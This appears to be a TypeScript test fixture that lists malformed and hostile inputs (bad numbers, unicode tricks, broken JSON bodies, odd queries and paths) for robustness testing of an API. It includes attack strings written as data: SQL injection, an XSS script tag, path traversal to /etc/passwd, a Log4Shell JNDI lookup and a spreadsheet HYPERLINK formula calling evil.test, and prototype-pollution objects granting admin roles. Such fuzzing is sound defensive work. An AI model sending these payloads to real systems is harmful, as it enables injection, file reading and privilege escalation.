/** Values that people, older programmes and attackers send where something else is meant. */
export const UGLY: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  9_007_199_254_740_991,
  '',
  ' ',
  '0',
  '-1',
  '1e400',
  'NaN',
  'Infinity',
  '0.0000000001',
  '9'.repeat(60),
  '٣٤٥',
  '😀',
  'a\u0000b',
  '\uD800',
  '\u202Eesrever',
  "Robert'); drop table payments;--",
  '=HYPERLINK("http://evil.test")',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '${jndi:ldap://evil.test}',
  '{{constructor}}',
  '2026-02-30',
  '0000-00-00T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '00000000-0000-0000-0000-000000000000',
  'x'.repeat(70_000),
  [],
  [null],
  [[[[]]]],
  Array.from({ length: 2_000 }, (_, at) => at),
  {},
  { constructor: { prototype: { admin: true } } },
  deep(200),
];

function deep(levels: number): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < levels; level += 1) value = { a: value };
  return value;
}

/** Bodies that are no object of fields. */
export const RAW_BODIES: readonly { readonly type: string; readonly body: string | Uint8Array }[] = [
  { type: 'application/json', body: '' },
  { type: 'application/json', body: '{' },
  { type: 'application/json', body: 'null' },
  { type: 'application/json', body: '[]' },
  { type: 'application/json', body: '"text"' },
  { type: 'application/json', body: '1e999' },
  { type: 'application/json', body: `${'['.repeat(5_000)}${']'.repeat(5_000)}` },
  { type: 'application/json', body: '{"__proto__":{"role":"system_admin"},"constructor":1}' },
  { type: 'application/json', body: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) },
  { type: 'application/json', body: new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0x00]) },
  { type: 'text/plain', body: 'hello' },
  { type: 'application/x-www-form-urlencoded', body: 'a=1&a=2&b[]=3' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nbroken' },
  { type: 'nonsense', body: 'x' },
];

export const UGLY_QUERIES: readonly string[] = [
  '',
  '%00',
  '%ff%fe',
  '%F0%9F%98%80',
  "'%20or%20'1'='1",
  '-1',
  '0',
  '1e400',
  '99999999999999999999',
  'NaN',
  '2026-02-30',
  '0000-01-01',
  '%5Bobject%20Object%5D',
  'x'.repeat(3_000),
  '%25%5F%5C',
];

export const UGLY_PATHS: readonly string[] = [
  '%00',
  '%ff',
  '..%2f..%2fetc',
  '-1',
  '0',
  "'",
  '00000000-0000-0000-0000-000000000000',
  'x'.repeat(300),
  '%F0%9F%98%80',
];

interface Node {
  readonly properties?: Readonly<Record<string, unknown>>;
  readonly anyOf?: readonly Node[];
  readonly allOf?: readonly Node[];
}

/** The fields that a schema names, those of its alternatives too. */
export function fieldsOf(schema: object | undefined): readonly string[] {
  return schema === undefined ? [] : namesIn(schema);
}

function namesIn({ properties = {}, anyOf = [], allOf = [] }: Node): readonly string[] {
  return [...new Set([...Object.keys(properties), ...[...anyOf, ...allOf].flatMap(namesIn)])];
}
